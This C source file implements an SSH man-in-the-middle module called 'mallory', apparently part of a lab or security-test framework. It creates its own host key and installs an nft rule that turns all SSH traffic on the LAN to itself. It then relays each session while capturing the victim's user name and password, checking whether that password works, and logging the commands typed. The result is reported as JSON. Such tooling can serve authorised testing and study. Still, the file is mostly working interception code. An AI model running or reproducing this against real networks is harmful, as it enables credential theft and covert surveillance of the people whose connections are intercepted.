/* Taking SSH connections, one after another. */
#include "sshmiddle.h"

#include <errno.h>
#include <jansson.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "accesspoint.h"
#include "glassnet/clock.h"
#include "redirect.h"

#define TABLE "mallory_ssh"

struct sshmiddle {
	const struct sshmiddle_options *opt;
	struct trace *t;
	int listener;
	struct sshkey_private key;
	struct sshmiddle_talk talk[SSHMIDDLE_TALKS_MAX];
	size_t n;
	char *msg; /* 256 octets */
};

static enum err fail(struct sshmiddle *m, enum err e, const char *what)
{
	snprintf(m->msg, 256, "%s: %s", what, e == ERR_NET ? strerror(errno) : err_text(e));
	return e;
}

static bool serve(void *ctx, int fd, const struct endpoint *from, const struct endpoint *to)
{
	struct sshmiddle *m = ctx;
	char victim[IP_TEXT];

	sshmiddle_relay(m->opt, m->t, &m->key, fd, ip_text(victim, &from->ip), to, &m->talk[m->n++]);
	trace_flush(m->t);
	return m->n < SSHMIDDLE_TALKS_MAX;
}

/* --- what came of it --- */

static json_t *talk_json(const struct sshmiddle_talk *k)
{
	json_t *kept = json_array();

	for (size_t i = 0; i < k->n_kept; i++)
		json_array_append_new(kept, json_string(k->kept[i]));
	return json_pack("{s:s, s:s, s:b, s:s, s:s, s:b, s:b, s:b, s:o}", "end", k->end ? k->end : "", "client",
	    k->client, "trusted", k->trusted, "user", k->user, "password", k->password, "signature", k->signature,
	    "signature_refused", k->signature_refused, "password_works", k->password_works, "heard", kept);
}

static enum err emit_result(struct sshmiddle *m)
{
	json_t *all = json_array();
	size_t passwords = 0, heard = 0;

	for (size_t i = 0; i < m->n; i++) {
		json_array_append_new(all, talk_json(&m->talk[i]));
		passwords += m->talk[i].password[0] != '\0';
		heard += m->talk[i].n_kept;
	}
	json_t *o = json_pack("{s:o}", "conversations", all);
	char *data = o ? json_dumps(o, JSON_COMPACT) : NULL;
	json_decref(o);
	enum err e = passwords || heard ? ERR_OK : ERR_NEGATIVE;
	ev_result(m->t, e, data,
	    "mallory answered %zu ssh connection%s; passwords: %zu, commands and lines heard: %zu", m->n,
	    m->n == 1 ? "" : "s", passwords, heard);
	if (data)
		sodium_memzero(data, strlen(data));
	free(data);
	return e;
}

static enum err work(struct sshmiddle *m)
{
	struct lan lan;
	char print[SSHKEY_FINGERPRINT];

	if (lan_find(&lan) != ERR_OK)
		return fail(
		    m, ERR_UNSUPPORTED, "this host has no LAN beside its way out: is this the lab's mallory?");
	if (sshkey_generate(&m->key, NULL, "mallory") != ERR_OK)
		return fail(m, ERR_NOMEM, "no host key");
	if (redirect_listen(&lan.self, SSHMIDDLE_OWN_PORT, &m->listener) != ERR_OK)
		return fail(m, ERR_NET, "cannot listen");
	if (redirect_start(TABLE, lan.ifname, SSHMIDDLE_PORT, SSHMIDDLE_OWN_PORT) != ERR_OK)
		return fail(m, ERR_UNSUPPORTED, "nft does not take the rule that turns connections round");
	ev_decision(m->t, "ready", NULL,
	    "whoever on %s calls port %d of anybody reaches mallory, who shows a host key of its own: %s", lan.ifname,
	    SSHMIDDLE_PORT, sshkey_fingerprint(print, m->key.public.blob, m->key.public.len));
	trace_flush(m->t);
	redirect_take(m->listener, SSHMIDDLE_PORT, m->opt->stop_fd, serve, m);
	redirect_end(TABLE);
	return emit_result(m);
}

enum err sshmiddle_run(const struct sshmiddle_options *opt, struct trace *t, char msg[static 256])
{
	struct sshmiddle *m = calloc(1, sizeof(*m));

	snprintf(msg, 256, "out of memory");
	if (!m || sodium_init() < 0) {
		free(m);
		return ERR_NOMEM;
	}
	*m = (struct sshmiddle){.opt = opt, .t = t, .listener = -1, .msg = msg};
	enum err e = work(m);
	if (m->listener >= 0)
		close(m->listener);
	sshkey_private_release(&m->key);
	sodium_memzero(m, sizeof(*m));
	free(m);
	return e;
}
